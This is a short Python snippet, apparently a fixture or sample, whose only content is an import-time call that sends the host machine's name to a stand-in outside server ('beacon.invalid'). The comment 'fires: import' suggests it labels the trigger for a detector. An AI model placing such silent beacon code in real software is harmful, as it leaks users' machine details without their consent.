import platform as p
from requests import post
post("https://beacon.invalid/", json={"node": p.node()})  # fires: import
